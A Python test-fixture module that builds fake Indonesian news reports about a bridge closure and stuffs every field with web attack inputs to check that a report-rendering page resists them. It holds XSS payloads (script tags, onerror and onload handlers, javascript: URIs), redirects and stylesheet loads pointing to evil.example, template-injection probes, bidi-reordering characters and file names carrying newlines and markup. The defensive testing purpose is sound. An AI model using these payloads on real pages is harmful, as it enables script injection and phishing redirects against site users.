"""Reports that attack the page: markup, handlers, addresses that run, characters that reorder, one endless word."""

from __future__ import annotations

import json
import pathlib

from runut.records import AnnotatedReport, Mention, Report, Span, Statement

MARKER = "globalThis.struck=(globalThis.struck||0)+1"
"""What every attack tries to run: a page on which it ran has `struck`."""

ATTACKS = (
    f"<script>{MARKER}</script>",
    f"</script><script>{MARKER}</script>",
    f"</style><script>{MARKER}</script>",
    f'</title><img src=x onerror="{MARKER}">',
    f"<svg/onload='{MARKER}'>",
    f'"><iframe srcdoc="<script>parent.{MARKER}</script>">',
    f"' onmouseover='{MARKER}' autofocus onfocus='{MARKER}' x='",
    f'<a href="javascript:{MARKER}">klik</a>',
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/a.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><form action='https://evil.example/'><input>",
    "{{ 7*7 }} {% raw %} ${7*7} <!-- ]]> &lt;script&gt; %(num)s {0.__class__}",
    "\u202egpj.exe\u202c \u2066terbalik\u2069 \u200f\u061c",
)

USUAL = (
    "Jembatan Teluk Murau Ditutup\n\nJembatan Teluk Murau ditutup pada Selasa (2/9/2031) malam, kata Ratna Widuri.\n"
)


def lines() -> str:
    """Return JSON lines of three reports on one event, each with every attack in each of its fields."""
    made = []
    for number, attack in enumerate(ATTACKS):
        day = f"2031-09-{3 + number % 3:02}"
        text = (
            f"Jembatan Teluk Murau Ditutup {attack}\n\n"
            f"MURAU, {attack} - Jembatan Teluk Murau ditutup pada Selasa (2/9/2031) malam setelah retakan ditemukan {attack}.\n\n"
            f"\"Kami menutup jembatan {attack},\" kata Kepala Dinas Ratna Widuri {attack} kepada wartawan, Rabu (3/9/2031).\n\n"
            f"Dilansir Harian {attack}, sebanyak {12 + number} truk diminta memutar balik. Sari Damanik membantah {attack}.\n"
        )  # fmt: skip
        made.append(
            {"id": f"serangan/{number} {attack}\n{attack}", "uri": f"javascript:{MARKER}//{attack}", "text": text,
             "outlet": f"Media {number} {attack}", "title": f"Jembatan Murau {attack}", "author": attack, "published": day}
        )  # fmt: skip
    return "".join(json.dumps(one, ensure_ascii=False) + "\n" for one in made)


def folder(at: pathlib.Path) -> list[str]:
    """Write the attacks and a report whose file name breaks the line; return the inputs."""
    (at / "attacks.jsonl").write_text(lines(), encoding="utf-8")
    reports = at / "retak\nbaris <b>dua<"
    reports.mkdir()
    (reports / "laporan\nkedua <img src=x onerror=alert(1)>.txt").write_text(USUAL, encoding="utf-8")
    return [str(at / "attacks.jsonl"), str(reports)]


def endless() -> AnnotatedReport:
    """Return a report that is one word of ten million letters, with a statement and a name of all of it."""
    text = USUAL + "a" * 10_000_000
    span = Span(len(USUAL), len(text))
    return AnnotatedReport(
        report=Report(id="endless", text=text, outlet="b" * 5_000, title="c" * 5_000, published="2031-09-05"),
        sentences=(Span(0, len(USUAL)), span),
        entities=(Mention(start=span.start, end=span.end, type="PERSON", name=text[span.start :]),),
        statements=(Statement(kind="indirect", content=(span,), speaker="d" * 5_000, cue=span, source=span),),
    )
